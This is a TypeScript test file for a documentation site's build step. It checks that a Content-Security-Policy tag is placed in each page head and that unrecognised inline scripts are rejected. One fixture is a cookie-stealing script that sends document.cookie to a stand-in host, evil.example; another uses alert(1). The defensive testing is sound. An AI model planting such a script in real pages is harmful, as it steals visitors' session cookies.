import { describe, expect, it } from 'vitest';
import { scriptHash } from './inline-scripts';
import { refuseUnknownInlineScripts, withPolicyMeta } from './page-policy';

const META = `<meta http-equiv="Content-Security-Policy" content="default-src 'self'; object-src 'none'">`;
const COLOUR_MODE = '!function(){document.documentElement.setAttribute("data-theme","light")}()';

const page = (head: string, body = '') =>
  `<!doctype html><html lang="en"><head>\n<meta charset="UTF-8">\n<meta name="generator" content="Docusaurus">${head}</head><body>${body}<div id="__docusaurus"></div></body></html>`;

describe('withPolicyMeta', () => {
  it('puts the policy straight after <meta charset>, before every other element of <head>', () => {
    const html = withPolicyMeta(page('<link rel="stylesheet" href="/a.css"><script src="/main.js" defer></script>'), META, '/');
    expect(html).toContain(`<head>\n<meta charset="UTF-8">${META}\n<meta name="generator"`);
  });

  it('puts it first in <head> when the page declares no charset', () => {
    expect(withPolicyMeta('<html><head data-x="1"><title>T</title></head></html>', META, '/plain')).toBe(`<html><head data-x="1">${META}<title>T</title></head></html>`);
  });

  it('changes nothing when run again', () => {
    const once = withPolicyMeta(page('<title>T</title>'), META, '/');
    expect(withPolicyMeta(once, META, '/')).toBe(once);
    expect(once.split(META)).toHaveLength(2);
  });

  it('moves the policy first when it was somewhere else in the page', () => {
    const elsewhere = page(`<title>T</title>${META}`);
    expect(withPolicyMeta(elsewhere, META, '/')).toBe(withPolicyMeta(page('<title>T</title>'), META, '/'));
  });

  it('refuses a page that sets a policy of its own, naming the page', () => {
    const own = page(`<meta http-equiv="content-security-policy" content="script-src *">`);
    expect(() => withPolicyMeta(own, META, '/es/tools')).toThrow(/The page \/es\/tools sets its own Content-Security-Policy/);
  });

  it('refuses a page without <head>', () => {
    expect(() => withPolicyMeta('<p>no head</p>', META, '/broken')).toThrow('The page /broken has no <head>');
  });
});

describe('refuseUnknownInlineScripts', () => {
  const known = new Set([scriptHash(COLOUR_MODE)]);

  it('accepts a page whose inline scripts are all known, whatever files it loads', () => {
    const html = page('<script src="/main.js" defer></script>', `<script>${COLOUR_MODE}</script>`);
    expect(() => refuseUnknownInlineScripts(html, '/', known)).not.toThrow();
  });

  it('accepts structured data, which the browser never runs', () => {
    const html = page('<script data-rh="true" type="application/ld+json">{"@type":"Course"}</script>', `<script>${COLOUR_MODE}</script>`);
    expect(() => refuseUnknownInlineScripts(html, '/', known)).not.toThrow();
  });

  it('refuses an unknown inline script with a message that names the page, the hash and the script', () => {
    const stray = 'fetch("https://evil.example/?c="+document.cookie)';
    const html = page('', `<script>${COLOUR_MODE}</script><script>${stray}</script>`);
    const refusal = () => refuseUnknownInlineScripts(html, '/es/standards/GOV-01', known);
    expect(refusal).toThrow(`The page /es/standards/GOV-01 has an inline script that is not one of the site's known head or body tags`);
    expect(refusal).toThrow(`(sha256-${scriptHash(stray)})`);
    expect(refusal).toThrow(stray);
  });

  it('refuses a known script changed by a single character', () => {
    const html = page('', `<script>${COLOUR_MODE.replace('light', 'dark')}</script>`);
    expect(() => refuseUnknownInlineScripts(html, '/', known)).toThrow(/not one of the site's known/);
  });

  it('refuses inline code whatever its script type says, unless it is JSON data', () => {
    for (const type of ['module', 'text/javascript', 'importmap', 'text/x-unknown']) {
      const html = page(`<script type="${type}">alert(1)</script>`);
      expect(() => refuseUnknownInlineScripts(html, '/', known), type).toThrow(/not one of the site's known/);
    }
  });
});
